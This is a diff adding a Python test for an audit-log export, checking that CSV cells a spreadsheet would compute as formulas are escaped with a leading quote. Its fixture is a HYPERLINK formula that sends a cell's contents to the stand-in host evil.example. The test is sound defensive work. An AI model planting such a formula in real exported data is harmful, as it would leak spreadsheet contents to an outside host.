@@ -117,6 +117,41 @@ async def test_exports_stream_every_event_with_hashes_and_verify_offline(make_ha
     assert list(rows[0]) == list(lines[0]), "CSV columns are the JSON Lines fields"
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+FORMULAS = f"""
+name: formulas
+match: {{alertname: [{json.dumps(FORMULA)}, "'quoted"]}}
+steps:
+  - {{id: note, action: test.record, params: {{label: "{{{{ target.node }}}}"}}}}
+"""
+
+
+async def test_the_csv_export_keeps_alert_text_a_spreadsheet_would_compute_as_text(
+    make_harness,
+):
+    """A run's reason starts with its alert's name, which whoever shapes the alert chooses:
+    in CSV a cell a spreadsheet would read as a formula starts with ``'``, as does one that
+    started with ``'`` (one quote taken off gives the text back); JSON Lines stays exact."""
+    h = await make_harness(FORMULAS)
+    await h.post(alert_body(node="gpu-node-01", alertname=FORMULA))
+    await h.post(alert_body(node="gpu-node-02", alertname="'quoted"))
+    await h.settle()
+    text = await (await h.client.get("/api/v1/audit/export")).text()
+    *lines, _trailer = [json.loads(line) for line in text.splitlines()]
+    as_csv = await h.client.get("/api/v1/audit/export", params={"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(await as_csv.text())))
+    assert [int(r["id"]) for r in rows] == [e["id"] for e in lines]
+    reasons = [e["reason"] for e in lines]
+    assert f"{FORMULA} fired" in reasons
+    assert "'quoted fired" in reasons
+    cells = [r["reason"] for r in rows]
+    assert f"'{FORMULA} fired" in cells
+    assert "''quoted fired" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+    for cell, event in zip(cells, lines, strict=True):
+        assert (cell[1:] if cell.startswith("'") else cell) == (event["reason"] or "")
+
+
 async def test_offline_verification_takes_exports_with_the_stores_field_names(
     make_harness, tmp_path
 ):
